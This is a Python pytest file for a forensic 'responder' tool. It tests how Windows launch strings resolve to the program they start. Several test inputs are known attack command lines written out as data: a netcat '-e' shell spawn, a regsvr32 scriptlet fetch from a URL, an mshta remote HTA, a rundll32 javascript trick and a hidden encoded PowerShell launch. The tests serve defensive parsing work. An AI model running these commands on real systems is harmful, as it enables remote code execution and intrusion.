"""Which program a launch string starts."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from responder.model.command_line import expand, library, resolve, user_variables

S32 = r"C:\Windows\System32"


@pytest.mark.parametrize(
    ("command", "image", "host"),
    [
        (r'"C:\Program Files\A B\x.exe" /s', r"C:\Program Files\A B\x.exe", ""),
        (r"C:\Program Files\A B\x.exe -k foo", r"C:\Program Files\A B\x.exe", ""),
        (r"C:\a.b\c d.exe", r"C:\a.b\c d.exe", ""),
        (r"C:\tmp\nc.exe -e C:\x.exe", r"C:\tmp\nc.exe", ""),
        (r"%SystemRoot%\system32\svchost.exe -k netsvcs", r"C:\Windows\system32\svchost.exe", ""),
        (r"\??\C:\x\y.sys", r"C:\x\y.sys", ""),
        (r"\SystemRoot\System32\smss.exe", rf"{S32}\smss.exe", ""),
        (r"system32\drivers\a.sys", r"C:\Windows\system32\drivers\a.sys", ""),
        ("explorer.exe", r"C:\Windows\explorer.exe", ""),
        ("unknown.exe -x", "unknown.exe", ""),
        ("C:/a/b.exe -x", r"C:\a\b.exe", ""),
        ("autocheck autochk *", rf"{S32}\autochk.exe", ""),
        (r"C:\Windows\system32\userinit.exe,", r"C:\Windows\system32\userinit.exe", ""),
        (r"rundll32.exe C:\Users\a b\x.dll,Start 1", r"C:\Users\a b\x.dll", "rundll32.exe"),
        (r'rundll32.exe "C:\a b\c.dll",Entry', r"C:\a b\c.dll", "rundll32.exe"),
        ("rundll32 shell32.dll,Control_RunDLL", rf"{S32}\shell32.dll", "rundll32.exe"),
        (r'rundll32.exe javascript:"\..\mshtml,RunHTMLApplication "', rf"{S32}\rundll32.exe", ""),
        ("regsvr32 /s /n /u /i:http://x/y.sct scrobj.dll", "http://x/y.sct", "regsvr32.exe"),
        (r"regsvr32 /s C:\p\q.dll", r"C:\p\q.dll", "regsvr32.exe"),
        (r'cmd /c start /min "" C:\temp\a.bat', r"C:\temp\a.bat", "cmd.exe"),
        (r'cmd.exe /c "C:\temp\a b.exe" /q', r"C:\temp\a b.exe", "cmd.exe"),
        (r'cmd /c "C:\x y.exe"', r"C:\x y.exe", "cmd.exe"),
        (r'cmd /c del /q "C:\a b"', rf"{S32}\cmd.exe", ""),
        (r"cmd /c powershell -File C:\s.ps1", r"C:\s.ps1", "powershell.exe"),
        ("powershell -nop -w hidden -enc AAAA", rf"{S32}\WindowsPowerShell\v1.0\powershell.exe", ""),
        (r"wscript.exe //B C:\u\a.vbs", r"C:\u\a.vbs", "wscript.exe"),
        ("mshta http://e/x.hta", "http://e/x.hta", "mshta.exe"),
        ("C:\\s1İ.exe -x", "C:\\s1İ.exe", ""),
        ("", "", ""),
        ('"', "", ""),
    ],
)
def test_image_of_a_launch_string(command, image, host):
    found = resolve(command)
    assert (found.image, found.host) == (image, host)


def test_variables():
    assert expand(r"%WinDir%\a %nope% 100%") == r"C:\Windows\a %nope% 100%"
    assert expand(r"%APPDATA%\a.exe", user_variables("ann")) == r"C:\Users\ann\AppData\Roaming\a.exe"
    assert library("scecli") == rf"{S32}\scecli.dll"
    assert library(r"%SystemRoot%\x.dll") == r"C:\Windows\x.dll"
    assert library("") == ""


@given(st.text())
def test_any_text_has_an_answer(text):
    assert isinstance(resolve(text).image, str)


@pytest.mark.parametrize(
    "text", ["%a" * 20_000, ".exe" * 20_000, '"' * 60_000, "cmd /c " * 9_000, "a " * 30_000, "start " * 9_000]
)
def test_long_texts_take_no_time(text):
    begun = time.monotonic()
    resolve(text)
    resolve("cmd /c start " + text)
    resolve("C:\\" + text)
    assert time.monotonic() - begun < 1
